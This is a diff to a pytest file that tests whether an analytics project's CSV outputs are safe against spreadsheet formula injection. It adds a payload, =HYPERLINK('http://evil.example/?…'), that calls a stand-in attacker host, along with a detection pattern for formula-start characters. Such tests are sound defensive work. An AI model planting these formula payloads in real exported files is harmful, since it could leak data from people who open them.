@@ -13,6 +13,7 @@ data-quality warning that quotes raw codes (they then count as ``other``, as the
 """
 from __future__ import annotations
 
+import csv
 import html.parser
 import re
 import zlib
@@ -22,6 +23,7 @@ import pandas as pd
 import pytest
 
 from playbook.dev.sample_data import generate_shop, write_shop
+from playbook.journal.store import JOURNAL_FILE, read_journal
 from playbook.run.weekly import run_week
 
 pytestmark = pytest.mark.notebooks
@@ -57,6 +59,11 @@ def every(value: str) -> str:
     return f"{value} {EVERY_PAYLOAD}"
 
 
+def formula(value: str) -> str:
+    """An experiments-table value a spreadsheet would run (OWASP CSV injection), with every payload after it."""
+    return f'=HYPERLINK("http://evil.example/?{MARKER}","{value}") {EVERY_PAYLOAD}'
+
+
 def _map(series: pd.Series, fn) -> pd.Series:
     return series.map(lambda v: fn(v) if isinstance(v, str) else v).astype(series.dtype)
 
@@ -74,7 +81,7 @@ def tainted_shop() -> dict[str, pd.DataFrame]:
         ("contacts", "contact_id", few), ("contacts", "order_id", few),
         ("actions", "action_id", few), ("actions", "owner", every), ("actions", "description", few),
         ("marketing_spend", "channel", every),
-        ("experiments", "experiment_id", every), ("experiments", "lever", every),
+        ("experiments", "experiment_id", every), ("experiments", "lever", formula),
         ("assignments", "experiment_id", every), ("assignments", "customer_id", few),
     ]:
         t[table][column] = _map(t[table][column], fn)
@@ -139,10 +146,20 @@ def read_page(path: Path) -> _Page:
 
 
 @pytest.fixture(scope="module")
-def week(tmp_path_factory) -> Path:
+def shop() -> dict[str, pd.DataFrame]:
+    return tainted_shop()
+
+
+@pytest.fixture(scope="module")
+def week(shop, tmp_path_factory) -> Path:
     base = tmp_path_factory.mktemp("markup")
-    write_shop(tainted_shop(), base / "data")
+    write_shop(shop, base / "data")
     return run_week(WEEK, base / "data", base / "reports", journal=base / "journal")
+
+
+@pytest.fixture(scope="module")
+def journal(week) -> Path:
+    return week.parent.parent / "journal"
 
 
 @pytest.fixture(scope="module")
@@ -178,3 +195,25 @@ def test_no_template_syntax_from_the_data_is_evaluated(pages):
         bare = [m.start() for m in re.finditer(f"{MARKER}if", text)
                 if not text[:m.start()].endswith("{% if 1 %}")]
         assert bare == [], name
+
+
+# --- the CSV files of the same run (the levers of the experiments table start with "=") ------------------------
+
+def unsafe_cells(path: Path) -> list[str]:
+    """Cells a spreadsheet would evaluate: a formula start (OWASP) that is not a plain number."""
+    with open(path, newline="", encoding="utf-8") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+            and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", c)]
+
+
+def test_the_csv_files_of_the_run_hold_no_cell_a_spreadsheet_would_run(week, journal):
+    files = [journal / JOURNAL_FILE, week / "experiments_plan.csv"]
+    assert {p.name: unsafe_cells(p) for p in files} == {p.name: [] for p in files}
+
+
+def test_the_journal_reads_back_the_levers_of_the_data_as_they_were(shop, journal):
+    verdicts = read_journal(journal).query("kind == 'verdict'")
+    assert len(verdicts) > 0
+    assert set(verdicts["lever"]) <= set(shop["experiments"]["lever"])
+    assert all(lever.startswith('=HYPERLINK("http://evil.example/') for lever in verdicts["lever"])
